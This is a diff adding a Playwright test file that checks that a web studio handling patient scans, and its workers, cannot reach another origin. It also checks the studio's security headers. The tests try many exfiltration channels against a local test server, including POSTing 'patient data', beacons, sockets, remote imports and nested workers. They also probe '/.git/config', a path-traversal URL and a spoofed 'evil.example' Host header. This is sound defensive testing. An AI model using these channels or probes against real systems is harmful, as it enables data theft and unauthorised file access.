@@ -1,0 +1,182 @@
+import { existsSync, readFileSync, statSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import { expect, type Page, type Worker as PageWorker, test } from '@playwright/test';
+import { loadStudy, openStudio, trainOnce } from './studio.ts';
+
+const DIST = path.resolve(import.meta.dirname, '../dist');
+const TYPES: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.wasm': 'application/wasm' };
+
+async function listen(server: http.Server): Promise<string> {
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
+
+/** A host of static files that sends no headers but their types. */
+function plainHost(): http.Server {
+  return http.createServer((request, response) => {
+    const { pathname } = new URL(request.url ?? '/', 'http://host');
+    const file = path.join(DIST, pathname.endsWith('/') ? `${pathname}index.html` : pathname);
+    if (!file.startsWith(DIST) || !existsSync(file) || !statSync(file).isFile()) return response.writeHead(404).end();
+    response.writeHead(200, { 'Content-Type': TYPES[path.extname(file)] ?? 'application/octet-stream' });
+    response.end(readFileSync(file));
+  });
+}
+
+/** Another origin that welcomes everybody, and notes who comes. */
+function elsewhere(): { server: http.Server; arrivals: string[] } {
+  const arrivals: string[] = [];
+  const server = http.createServer((request, response) => {
+    arrivals.push(`${request.method} ${request.url}`);
+    const type = request.url?.includes('script') ? 'text/javascript' : 'text/plain';
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin', 'Content-Type': type });
+    response.end('1');
+  });
+  server.on('upgrade', (request, socket) => {
+    arrivals.push(`upgrade ${request.url}`);
+    socket.destroy();
+  });
+  return { server, arrivals };
+}
+
+/** Tries every way out of where it runs; what did not end within two seconds counts as tried, too. Returns the ways that claimed to work. */
+async function tryToLeave({ host, from }: { host: string; from: string }): Promise<string[]> {
+  const url = (way: string) => `http://${host}/${from}-${way}`;
+  const opened = (target: EventTarget) =>
+    new Promise((resolve, reject) => {
+      target.addEventListener('open', resolve);
+      target.addEventListener('load', resolve);
+      target.addEventListener('message', resolve);
+      target.addEventListener('error', () => reject(new Error('refused')));
+    });
+  const blob = (source: string) => URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
+  const within = (source: string, type: 'classic' | 'module') => opened(new Worker(blob(source), { type }));
+  const ways: Record<string, () => unknown> = {
+    fetch: () => fetch(url('fetch'), { method: 'POST', body: 'patient data', mode: 'no-cors' }),
+    keepalive: () => fetch(url('keepalive'), { keepalive: true, mode: 'no-cors' }),
+    xhr: () => {
+      const request = new XMLHttpRequest();
+      request.open('POST', url('xhr'));
+      request.send('patient data');
+      return opened(request);
+    },
+    socket: () => opened(new WebSocket(url('socket').replace('http', 'ws'))),
+    events: () => opened(new EventSource(url('events'))),
+    import: () => import(url('import-script')),
+    worker: () => opened(new Worker(url('worker-script'))),
+    moduleWorker: () => opened(new Worker(url('module-worker-script'), { type: 'module' })),
+    nested: () => within(`fetch('${url('nested')}', { mode: 'no-cors' }).then(() => postMessage(1), () => { throw 1; })`, 'module'),
+    nestedImport: () => within(`import '${url('nested-import-script')}'; postMessage(1);`, 'module'),
+    importScripts: () => within(`importScripts('${url('imported-script')}'); postMessage(1);`, 'classic'),
+  };
+  if ('importScripts' in globalThis)
+    ways.own = () => (globalThis as unknown as { importScripts(u: string): void }).importScripts(url('own-script'));
+  if (navigator.sendBeacon) {
+    ways.beacon = () => {
+      if (!navigator.sendBeacon(url('beacon'), 'patient data')) throw new Error('refused');
+      // What the policy refuses is refused later, without a word.
+      return new Promise((_, reject) => setTimeout(reject, 1000));
+    };
+  }
+  if ('document' in globalThis) {
+    const element = (name: 'img' | 'script' | 'iframe', set: (made: HTMLElement) => void) => () => {
+      const made = document.createElement(name);
+      set(made);
+      const done = opened(made);
+      document.body.append(made);
+      // A refused frame shows an empty page, and says that it has loaded.
+      return name === 'iframe' ? new Promise((_, reject) => setTimeout(reject, 1000)) : done;
+    };
+    ways.image = element('img', (made) => made.setAttribute('src', url('image')));
+    ways.script = element('script', (made) => made.setAttribute('src', url('tag-script')));
+    ways.frame = element('iframe', (made) => made.setAttribute('src', url('frame')));
+  }
+  const tried = Object.entries(ways).map(async ([way, leave]) => {
+    try {
+      await Promise.race([leave(), new Promise((_, reject) => setTimeout(reject, 2000))]);
+      return [way];
+    } catch {
+      return [];
+    }
+  });
+  return (await Promise.all(tried)).flat();
+}
+
+async function workersByName(page: Page): Promise<Map<string, PageWorker>> {
+  const named = new Map<string, PageWorker>();
+  for (const worker of page.workers()) named.set(await worker.evaluate(() => self.name), worker);
+  return named;
+}
+
+/** Uses the studio until all of its workers are there, and lets the page and each of them try to get out. */
+async function expectConfined(page: Page): Promise<void> {
+  const { server, arrivals } = elsewhere();
+  const host = await listen(server);
+  try {
+    await fetch(`http://${host}/heard`);
+    expect(arrivals, 'what arrives is noted').toEqual(['GET /heard']);
+    const { faults } = await openStudio(page);
+    await loadStudy(page, '12 of 12 scans used');
+    await trainOnce(page);
+    expect(faults).toEqual([]);
+    const workers = await workersByName(page);
+    expect([...workers.keys()].sort()).toEqual(['decode', 'gpu', 'store']);
+    for (const [name, worker] of workers) expect(await worker.evaluate(tryToLeave, { host, from: name }), name).toEqual([]);
+    expect(await page.evaluate(tryToLeave, { host, from: 'page' })).toEqual([]);
+    expect(arrivals).toEqual(['GET /heard']);
+  } finally {
+    server.close();
+  }
+}
+
+test('no worker reaches another origin, nor does the page', async ({ page }) => {
+  await expectConfined(page);
+});
+
+test.describe('on a host that sends no headers', () => {
+  let host: http.Server;
+  test.use({
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of what a fixture uses from the braces.
+    baseURL: async ({}, use) => {
+      host = plainHost();
+      await use(`http://${await listen(host)}/`);
+      host.close();
+    },
+  });
+
+  test('no worker reaches another origin, nor does the page', async ({ page }) => {
+    await expectConfined(page);
+  });
+});
+
+test('our server says of every answer who may use it', async ({ request, baseURL }) => {
+  const script = /src="\.\/(assets\/[^"]+\.js)"/.exec(await (await request.get('/')).text())?.[1];
+  for (const [address, status] of [
+    ['/', 200],
+    ['/automation.html', 200],
+    [`/${script}`, 200],
+    ['/weights/index.json', 200],
+    ['/nothing', 404],
+    ['/package.json', 404],
+    ['/.git/config', 404],
+    ['/assets/../../package.json', 404],
+  ] as const) {
+    const answer = await request.get(address, { headers: { Origin: 'http://localhost:9999' } });
+    expect(answer.status(), address).toBe(status);
+    const headers = answer.headers();
+    expect(headers['content-security-policy'], address).toMatch(/^default-src 'none'; .*connect-src 'self'; .*frame-ancestors 'none'$/);
+    expect(headers, address).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'cross-origin-opener-policy': 'same-origin',
+      'cross-origin-resource-policy': 'same-origin',
+      'referrer-policy': 'no-referrer',
+    });
+    expect(headers, address).not.toHaveProperty('access-control-allow-origin');
+  }
+  const { port } = new URL(baseURL ?? '');
+  const named = await request.get('/automation.html?a=b', { headers: { Host: `localhost:${port}` }, maxRedirects: 0 });
+  expect(named.status()).toBe(307);
+  expect(named.headers().location).toBe(`http://127.0.0.1:${port}/automation.html?a=b`);
+  expect((await request.get('/', { headers: { Host: 'evil.example' } })).status()).toBe(403);
+});
